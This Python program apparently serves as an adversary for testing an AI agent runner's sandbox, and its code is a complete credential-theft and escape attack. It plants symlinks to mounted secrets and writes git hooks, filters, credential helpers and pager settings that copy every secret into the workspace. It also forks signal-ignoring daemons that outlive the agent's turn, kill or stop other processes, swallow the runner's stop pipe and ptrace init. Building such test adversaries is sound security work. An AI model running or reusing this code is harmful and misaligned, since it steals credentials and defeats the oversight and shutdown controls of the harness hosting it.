"""
A hostile agent that tries to obtain the runner's secrets: a program for an agent's container.

It leaves processes behind that outlive the agent's prompt turn. They kill, stop and trace what they
can, consume the runner's stop message, and swap folders for links to the places where the runner
has its secrets mounted. It also leaves links, git settings, hooks and HOME files for programs that
follow them carelessly.
"""

import ctypes
import os
import signal
import subprocess
import time
from contextlib import suppress
from pathlib import Path

WORKSPACE, HOME, PIPES = Path("/workspace"), Path.home(), Path("/agentrun/pipes")
SECRETS = Path("/var/run/secrets")
FOLDERS = {
    "agentrun": ("token",),
    "agentrun-provider": ("key",),
    "agentrun-git": ("username", "password"),
    "agentrun-redact": ("canary", "proxy-url"),
    "agentrun-mcp": ("canary",),
}
LARGE = 16 * 1024 * 1024
PTRACE_SEIZE = 0x4206
STEAL = f"cat {SECRETS}/*/* {SECRETS}/*/*/* >{WORKSPACE}/stolen-$$ 2>/dev/null; cat"
SETTINGS = f"""
[core]
  fsmonitor = "{STEAL}"
  hooksPath = {WORKSPACE}/hooks
  sshCommand = "{STEAL}"
  askPass = {WORKSPACE}/hooks/any
  attributesFile = {WORKSPACE}/attributes
  pager = "{STEAL}"
  editor = "{STEAL}"
[filter "steal"]
  clean = "{STEAL}"
  smudge = "{STEAL}"
  process = "{STEAL}"
  required = true
[diff]
  external = "{STEAL}"
[diff "steal"]
  command = "{STEAL}"
  textconv = "{STEAL}"
[merge "steal"]
  driver = "{STEAL}"
[credential]
  helper = "!{STEAL}"
[gpg]
  program = {WORKSPACE}/hooks/any
[commit]
  gpgSign = true
[include]
  path = {SECRETS}/agentrun-git/password
"""
HOOKS = (
    "any", "pre-commit", "post-commit", "prepare-commit-msg", "commit-msg", "post-checkout",
    "post-index-change", "reference-transaction", "pre-push", "post-merge", "fsmonitor-watchman",
)  # fmt: skip


def main() -> None:
    """Set the traps, and leave the processes behind that use them."""
    for root in (WORKSPACE, HOME):
        _link(root)
    with suppress(OSError):
        _configure()
    for work in (_swap, _kill, _listen, _trace):
        _leave_behind(work)
    # Wait, so that they are at work when the prompt turn ends.
    time.sleep(2)


def _link(root: Path) -> None:
    """Make links to each secret, and a large file that takes a while to pack."""
    for folder, keys in FOLDERS.items():
        with suppress(FileExistsError):
            (root / f"to-{folder}").symlink_to(SECRETS / folder)
        for key in keys:
            with suppress(FileExistsError):
                (root / f"to-{folder}-{key}").symlink_to(SECRETS / folder / key)
    for number, name in enumerate(("AGENTS.md", "CLAUDE.md", ".gitconfig", ".ssh", ".netrc")):
        folder, keys = list(FOLDERS.items())[number % len(FOLDERS)]
        with suppress(OSError):
            (root / name).unlink(missing_ok=True)
            (root / name).symlink_to(SECRETS / folder / keys[0])
    os.truncate(os.open(root / "a-large-one", os.O_CREAT | os.O_WRONLY), LARGE)


def _configure() -> None:
    """Write git's settings and hooks everywhere that git might read them."""
    hook = f"#!/bin/sh\n{STEAL}\n"
    for folder in (WORKSPACE / "hooks", WORKSPACE / ".git" / "hooks"):
        folder.mkdir(parents=True, exist_ok=True)
        for name in HOOKS:
            (folder / name).write_text(hook)
            (folder / name).chmod(0o755)
    for file in (WORKSPACE / ".gitattributes", WORKSPACE / "attributes"):
        file.write_text("* filter=steal diff=steal merge=steal\n")
    info = WORKSPACE / ".git" / "info"
    info.mkdir(exist_ok=True)
    (info / "attributes").write_text("* filter=steal diff=steal merge=steal\n")
    alternates = WORKSPACE / ".git" / "objects" / "info" / "alternates"
    alternates.parent.mkdir(parents=True, exist_ok=True)
    alternates.write_text(f"{SECRETS}/agentrun-git\n")
    for settings in (WORKSPACE / ".git" / "config", HOME / ".config" / "git" / "config"):
        settings.parent.mkdir(parents=True, exist_ok=True)
        with settings.open("a") as written:
            written.write(SETTINGS)


def _leave_behind(work: object) -> None:
    """Repeat ``work`` forever in a daemon process with a session of its own."""
    assert callable(work)
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
        signal.signal(number, signal.SIG_IGN)
    while True:
        with suppress(Exception):
            work()
        time.sleep(0.01)


def _swap() -> None:
    """Swap folders for links and back, to race with whatever traverses them."""
    places = []
    for root in (WORKSPACE, HOME):
        for folder, keys in FOLDERS.items():
            shown, hidden = root / f"d-{folder}", root / f".d-{folder}"
            for key in keys:
                with suppress(OSError):
                    shown.mkdir(exist_ok=True)
                    (shown / key).write_text("nothing here")
                    os.truncate(os.open(shown / "a-large-one", os.O_CREAT | os.O_WRONLY), LARGE)
            places.append((shown, hidden, SECRETS / folder))
    while True:
        for shown, hidden, secret in places:
            with suppress(OSError):
                shown.rename(hidden)
                shown.symlink_to(secret)
        time.sleep(0.002)
        for shown, hidden, _ in places:
            with suppress(OSError):
                shown.unlink()
                hidden.rename(shown)
        time.sleep(0.002)


def _kill() -> None:
    """
    Kill or stop processes that are not its own, such as the init process and its waiting shells.
    """
    own = {os.getpid(), os.getppid()}
    for process in Path("/proc").glob("[0-9]*"):
        command = (process / "cmdline").read_bytes()
        if int(process.name) in own or b"python3" in command:
            continue
        for number in (signal.SIGSTOP, signal.SIGKILL):
            with suppress(OSError):
                os.kill(int(process.name), number)


def _listen() -> None:
    """Read the runner's pipes, and hold each of them open in both directions."""
    held = []
    for pipe in PIPES.iterdir():
        for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
            with suppress(OSError):
                held.append(os.open(pipe, flags | os.O_NONBLOCK))
    stop = os.open(PIPES / "stop", os.O_RDONLY | os.O_NONBLOCK)
    for name in ("stop", "exit", "ready", "end"):
        with suppress(OSError):
            (PIPES / name).unlink()
    while True:
        with suppress(BlockingIOError):
            os.read(stop, 1)
        time.sleep(0.001)


def _trace() -> None:
    """Attach to the first process, and try to open its file descriptors."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(PTRACE_SEIZE, 1, None, None)
    for file in Path("/proc/1/fd").iterdir():
        with suppress(OSError):
            os.open(file, os.O_RDWR | os.O_NONBLOCK)
    subprocess.run(["kill", "-STOP", "1"], check=False)


if __name__ == "__main__":
    main()
